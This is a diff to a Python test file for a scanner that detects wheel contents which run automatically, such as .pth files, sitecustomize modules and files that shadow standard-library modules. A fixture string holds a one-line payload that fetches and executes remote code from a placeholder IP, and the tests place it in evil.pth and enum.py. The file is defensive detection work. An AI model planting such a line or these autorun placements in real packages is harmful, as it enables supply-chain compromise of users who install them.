@@ -14,6 +14,7 @@ import setuptools
 from artefact_support import Desk, npm_of, tar_of, wheel_of
 
 from skillwarden.domain.artefact_facts import ArtefactFacts
+from skillwarden.domain.finding import Severity
 
 WORM = "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x').read())"
 
@@ -35,7 +36,29 @@ def ids(facts: ArtefactFacts) -> list[str]:
         ("sitecustomize.py", "", ["startup:sitecustomize"]),
         ("usercustomize/__init__.py", "", ["startup:usercustomize"]),
         ("tiny/sitecustomize.py", "", []),
+        ("tiny-1.0.data/data/sitecustomize.py", "", ["startup:sitecustomize"]),
+        ("tiny-1.0.data/data/lib/python/sitecustomize.py", "", ["startup:sitecustomize"]),
+        ("tiny-1.0.data/data/evil.pth", WORM, ["pth:evil.pth"]),
+        ("tiny-1.0.data/data/share/sitecustomize.py", "", []),
+        ("tiny-1.0.data/scripts/sitecustomize.py", "", []),
+        ("tiny-1.0.data/headers/sitecustomize.py", "", []),
+        ("encodings/__init__.py", "", ["startup:encodings"]),
+        ("encodings/__init__.cpython-312-x86_64-linux-gnu.so", "", ["startup:encodings"]),
+        ("site.pyc", "", ["startup:site"]),
+        ("site.cfg", "", []),
+        ("typing.py", "", ["hides:typing"]),
+        ("tiny-1.0.data/data/enum/__init__.py", "", ["hides:enum"]),
+        ("_json.abi3.so", "", ["hides:_json"]),
+        ("_sysconfigdata__linux_x86_64-linux-gnu.py", "", ["hides:_sysconfigdata__linux_x86_64-linux-gnu"]),
+        ("compression/__init__.py", "", ["hides:compression"]),
+        # Without an __init__ it is found after the standard library's.
+        ("typing/helper.py", "", []),
+        ("importlib_metadata/__init__.py", "", []),
+        ("typing_extensions.py", "", []),
+        ("backports/enum/__init__.py", "", []),
+        ("tests/__init__.py", "", []),
         ("tiny-1.0.data/scripts/python", "#!python\n", ["command:python"]),
+        ("tiny-1.0.data/data/bin/python", "#!python\n", ["command:python"]),
         ("tiny-1.0.data/scripts/tiny", "#!python\n", []),
         ("tiny-1.0.dist-info/entry_points.txt", "[console_scripts]\ngit = tiny:main\n", ["command:git"]),
         ("tiny-1.0.dist-info/entry_points.txt", "[console_scripts]\ntiny = tiny:main\n", []),
@@ -49,6 +72,12 @@ async def test_what_a_wheel_runs_by_itself(path: str, text: str, expected: list[
 async def test_the_hook_shows_the_code(desk: Desk) -> None:
     [hook] = (await desk.wheel(wheel_of({"evil.pth": WORM}))).hooks
     assert hook.text == WORM
+
+
+async def test_what_hides_a_module_is_looked_into(desk: Desk) -> None:
+    [hook] = (await desk.wheel(wheel_of({"tiny-1.0.data/data/enum.py": WORM}))).hooks
+    assert hook.text == "enum.py runs in place of the standard library's enum"
+    assert hook.severity is Severity.HIGH
 
 
 @pytest.fixture(scope="module")
